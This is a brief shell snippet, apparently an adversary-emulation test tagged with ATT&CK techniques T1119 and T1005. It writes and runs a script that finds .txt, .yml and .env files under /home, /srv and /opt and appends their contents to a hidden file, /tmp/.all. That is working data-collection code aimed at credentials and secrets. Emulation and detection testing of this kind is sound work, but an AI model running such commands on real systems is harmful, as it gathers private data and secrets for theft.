# title: A script gathers all files of a kind by itself
# technique: T1119 T1005
# needs: find

printf 'for f in $(find /home /srv /opt -name "*.txt" -o -name "*.yml" -o -name ".env"); do cat "$f" >>/tmp/.all; done\n' >/tmp/g.sh
sh /tmp/g.sh
